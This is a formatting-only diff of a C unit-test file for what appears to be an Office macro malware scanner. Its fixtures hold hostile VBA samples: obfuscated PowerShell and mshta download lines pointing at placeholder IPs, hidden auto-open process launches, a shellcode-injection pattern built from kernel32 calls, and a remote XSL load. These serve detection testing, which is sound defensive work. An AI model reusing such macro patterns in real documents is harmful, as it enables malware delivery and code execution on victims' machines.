@@ -93,7 +93,9 @@ static void test_codepage_names(void **state)
     static const struct {
         const char *utf8, *cp;
         uint16_t code;
-    } names[] = {{"ЭтаКнига", "CP1251", 1251}, {"Módulo1", "CP1252", 1252}, {"標準モジュール1", "CP932", 932}};
+    } names[] = {{"ЭтаКнига", "CP1251", 1251},
+                 {"Módulo1", "CP1252", 1252},
+                 {"標準モジュール1", "CP932", 932}};
     for (size_t i = 0; i < 3; i++) {
         char *ansi = to_cp(names[i].utf8, names[i].cp);
         char *src = to_cp(with_name(names[i].utf8, AUTO_SHELL), names[i].cp);
@@ -133,10 +135,11 @@ static void test_case_insensitive(void **state)
 static void test_userform_strings(void **state)
 {
     (void)state;
-    eg_fx_control ctl[] = {{"TextBox1", 23, "WScript.Shell", NULL, NULL, NULL, NULL},
-                           {"TextBox2", 23, NULL, NULL, "cmd /c echo form-held command", NULL, NULL},
-                           {"Label1", 21, NULL, "tip text", NULL, "po|junk|wer|junk|shell", NULL},
-                           {"Opt1", 23, NULL, NULL, "0", NULL, "mshta|junk| http://192.0.2.5/x.hta"}};
+    eg_fx_control ctl[] = {
+        {"TextBox1", 23, "WScript.Shell", NULL, NULL, NULL, NULL},
+        {"TextBox2", 23, NULL, NULL, "cmd /c echo form-held command", NULL, NULL},
+        {"Label1", 21, NULL, "tip text", NULL, "po|junk|wer|junk|shell", NULL},
+        {"Opt1", 23, NULL, NULL, "0", NULL, "mshta|junk| http://192.0.2.5/x.hta"}};
     eg_buf f, o;
     eg_buf_init(&f, 0);
     eg_buf_init(&o, 0);
@@ -176,13 +179,15 @@ static void collect(void *ud, const char *control, const char *prop, const char 
 {
     seen *s = ud;
     size_t l = strlen(s->all);
-    snprintf(s->all + l, sizeof s->all - l, "%s.%s=%.*s;", control ? control : "Form", prop, (int)vlen, val);
+    snprintf(s->all + l, sizeof s->all - l, "%s.%s=%.*s;", control ? control : "Form", prop,
+             (int)vlen, val);
 }
 
 static void test_oform_parse(void **state)
 {
     (void)state;
-    eg_fx_control ctl[] = {{"Abc", 23, "t1", "tip", "v1", "c1", "g1"}, {"Lbl22", 21, "tag2", NULL, NULL, "cap", NULL},
+    eg_fx_control ctl[] = {{"Abc", 23, "t1", "tip", "v1", "c1", "g1"},
+                           {"Lbl22", 21, "tag2", NULL, NULL, "cap", NULL},
                            {"Btn", 17, NULL, NULL, NULL, "press", NULL}};
     eg_buf f, o;
     eg_buf_init(&f, 0);
@@ -190,14 +195,16 @@ static void test_oform_parse(void **state)
     eg_fx_oform(ctl, 3, &f, &o);
     seen s = {{0}};
     assert_int_equal(eg_oform_parse(f.data, f.len, o.data, o.len, 1252, collect, &s), EG_OK);
-    assert_string_equal(s.all, "Form.Zoom=100;Abc.Tag=t1;Abc.ControlTipText=tip;Abc.Value=v1;Abc.Caption=c1;Abc.GroupName=g1;"
+    assert_string_equal(s.all, "Form.Zoom=100;Abc.Tag=t1;Abc.ControlTipText=tip;Abc.Value=v1;Abc."
+                               "Caption=c1;Abc.GroupName=g1;"
                                "Lbl22.Tag=tag2;Lbl22.Caption=cap;Btn.Caption=press;");
     /* every truncation is read without harm */
     for (size_t n = 0; n < f.len; n++)
         eg_oform_parse(f.data, n, o.data, o.len, 1252, collect, &(seen){{0}});
     for (size_t n = 0; n < o.len; n++)
         eg_oform_parse(f.data, f.len, o.data, n, 1252, collect, &(seen){{0}});
-    assert_int_equal(eg_oform_parse((const uint8_t *)"\x00\x02", 2, NULL, 0, 1252, collect, &s), EG_EFORMAT);
+    assert_int_equal(eg_oform_parse((const uint8_t *)"\x00\x02", 2, NULL, 0, 1252, collect, &s),
+                     EG_EFORMAT);
     eg_buf_free(&f);
     eg_buf_free(&o);
 }
@@ -216,7 +223,8 @@ static void test_decoder_functions(void **state)
                       "K = Chr(n - 22)\r\n"
                       "End Function\r\n"
                       "Sub Go()\r\n"
-                      "Dim a: a = \"wQ)(qinQ)(qmgmtQ)(q\" + ChrW(wdKeyS) + \":w\" & VBA.ChrW(VBA.vbKeyI) & \"n32_pro\"\r\n"
+                      "Dim a: a = \"wQ)(qinQ)(qmgmtQ)(q\" + ChrW(wdKeyS) + \":w\" & "
+                      "VBA.ChrW(VBA.vbKeyI) & \"n32_pro\"\r\n"
                       "b = Dj(a + Nothing1 + \"cess\")\r\n"
                       "c = K(89) & K(99) & K(122) & K(109)\r\n"
                       "d = Join(Split(\"po~~we~~rshell\", \"~~\"), \"\")\r\n"
@@ -287,9 +295,10 @@ static void test_stomping_control_name(void **state)
     assert_false(eg_report_has_rule(r, "VBA.STOMPING"));
     eg_report_free(r);
     /* real stomping with an auto-exec decoy: suspicious, never malicious on that alone */
-    eg_fx_module s[] = {{"Module1",
-                         "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nMsgBox \"hi\"\r\nEnd Sub\r\n",
-                         false, "\x01\x02powershell -enc AAAA http://203.0.113.4/\x03"}};
+    eg_fx_module s[] = {
+        {"Module1",
+         "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nMsgBox \"hi\"\r\nEnd Sub\r\n", false,
+         "\x01\x02powershell -enc AAAA http://203.0.113.4/\x03"}};
     r = scan_ex(s, 1, 1252, NULL, 0, EG_FX_VBA_DOC, "s.doc");
     assert_true(eg_report_has_rule(r, "VBA.STOMPING"));
     assert_int_equal(eg_report_verdict(r), EG_VERDICT_SUSPICIOUS);
@@ -302,28 +311,36 @@ static void test_call_shapes(void **state)
     static const struct {
         const char *body, *rule;
     } cases[] = {
-        /* the ProgID is built somewhere unknown: the Create call with ShowWindow still runs a process */
+        /* the ProgID is built somewhere unknown: the Create call with ShowWindow still runs a
+           process */
         {"Sub Document_Open()\r\n"
          "Set st = GetObject(Pieces1 & Pieces2)\r\n"
          "st.ShowWindow = 0\r\n"
          "Set p = GetObject(Pieces3)\r\n"
          "Do While p.Create(cmdline, Null, st, pid)\r\nLoop\r\nEnd Sub\r\n",
          "VBA.AUTOEXEC_EXECUTION"},
-        {"Sub AutoOpen()\r\nCreateObject(Fetch()).Run cmdline, vbHide\r\nEnd Sub\r\n", "VBA.AUTOEXEC_EXECUTION"},
-        {"Sub AutoOpen()\r\nSet o = CreateObject(Fetch())\r\nSet x = o.Exec(cmdline)\r\nEnd Sub\r\n",
+        {"Sub AutoOpen()\r\nCreateObject(Fetch()).Run cmdline, vbHide\r\nEnd Sub\r\n",
+         "VBA.AUTOEXEC_EXECUTION"},
+        {"Sub AutoOpen()\r\nSet o = CreateObject(Fetch())\r\nSet x = o.Exec(cmdline)\r\nEnd "
+         "Sub\r\n",
          "VBA.AUTOEXEC_EXECUTION"},
         {"Sub AutoOpen()\r\nSet h = CreateObject(Fetch())\r\nh.Open \"GET\", u, False\r\nh.Send\r\n"
          "b = h.responseBody\r\nEnd Sub\r\n",
          "VBA.DOWNLOAD"},
-        {"Sub AutoOpen()\r\nStyle_1 = 0\r\nSet o = CreateObject(Fetch())\r\no.Run cmdline, Style_1\r\nEnd Sub\r\n",
+        {"Sub AutoOpen()\r\nStyle_1 = 0\r\nSet o = CreateObject(Fetch())\r\no.Run cmdline, "
+         "Style_1\r\nEnd Sub\r\n",
          "VBA.AUTOEXEC_EXECUTION"},
-        {"Private Declare PtrSafe Function Va Lib \"kernel32\" Alias \"VirtualAlloc\" (ByVal a As LongPtr, ByVal b As "
+        {"Private Declare PtrSafe Function Va Lib \"kernel32\" Alias \"VirtualAlloc\" (ByVal a As "
+         "LongPtr, ByVal b As "
          "Long, ByVal c As Long, ByVal d As Long) As LongPtr\r\n"
-         "Private Declare PtrSafe Function Mv Lib \"kernel32\" Alias \"RtlMoveMemory\" (ByVal a As LongPtr, ByRef b As "
+         "Private Declare PtrSafe Function Mv Lib \"kernel32\" Alias \"RtlMoveMemory\" (ByVal a As "
+         "LongPtr, ByRef b As "
          "Any, ByVal c As Long) As LongPtr\r\n"
-         "Private Declare PtrSafe Function Loc Lib \"kernel32\" Alias \"EnumSystemLocalesA\" (ByVal a As LongPtr, "
+         "Private Declare PtrSafe Function Loc Lib \"kernel32\" Alias \"EnumSystemLocalesA\" "
+         "(ByVal a As LongPtr, "
          "ByVal b As Long) As Long\r\n"
-         "Sub AutoOpen()\r\nm = Va(0, 4096, &H3000, &H40)\r\nMv m, buf(0), 4096\r\nLoc m, 0\r\nEnd Sub\r\n",
+         "Sub AutoOpen()\r\nm = Va(0, 4096, &H3000, &H40)\r\nMv m, buf(0), 4096\r\nLoc m, 0\r\nEnd "
+         "Sub\r\n",
          "VBA.INJECTION"},
         {"Sub AutoOpen()\r\nSet x = CreateObject(\"MSXML2.DOMDocument\")\r\nx.async = False\r\n"
          "x.Load \"http://192.0.2.9/s.xsl\"\r\nx.transformNode x\r\nEnd Sub\r\n",
@@ -338,9 +355,11 @@ static void test_call_shapes(void **state)
         eg_report_free(r);
     }
     /* Excel's Application.Run of a macro name is no execution */
-    eg_fx_module b[] = {{"ThisWorkbook",
-                         with_name("ThisWorkbook", "Private Sub Workbook_Open()\r\nApplication.Run \"Refresh\"\r\nEnd Sub\r\n"),
-                         true, NULL}};
+    eg_fx_module b[] = {
+        {"ThisWorkbook",
+         with_name("ThisWorkbook",
+                   "Private Sub Workbook_Open()\r\nApplication.Run \"Refresh\"\r\nEnd Sub\r\n"),
+         true, NULL}};
     eg_report *r = scan_ex(b, 1, 1252, NULL, 0, EG_FX_VBA_XLS, "b.xls");
     assert_false(eg_report_has_rule(r, "VBA.EXECUTION"));
     assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
@@ -350,9 +369,9 @@ static void test_call_shapes(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_tampered_dir),        cmocka_unit_test(test_codepage_names),
-        cmocka_unit_test(test_case_insensitive),    cmocka_unit_test(test_userform_strings),
-        cmocka_unit_test(test_oform_parse),         cmocka_unit_test(test_decoder_functions),
+        cmocka_unit_test(test_tampered_dir),          cmocka_unit_test(test_codepage_names),
+        cmocka_unit_test(test_case_insensitive),      cmocka_unit_test(test_userform_strings),
+        cmocka_unit_test(test_oform_parse),           cmocka_unit_test(test_decoder_functions),
         cmocka_unit_test(test_stomping_control_name), cmocka_unit_test(test_call_shapes),
         cmocka_unit_test(test_document_text),
     };
